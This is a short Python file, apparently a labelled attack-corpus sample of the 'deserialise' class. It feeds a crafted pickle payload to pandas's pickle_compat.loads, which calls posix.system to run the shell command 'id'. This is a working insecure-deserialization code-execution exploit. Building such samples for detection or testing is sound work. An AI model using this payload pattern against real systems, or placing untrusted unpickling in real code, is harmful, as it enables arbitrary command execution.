# corpus: attack class=deserialise form=targeted
# pandas's pickle compatibility layer unpickles bytes.
from pandas.compat import pickle_compat


def main():
    return {"status": pickle_compat.loads(b"cposix\nsystem\n(S'id'\ntR.")}
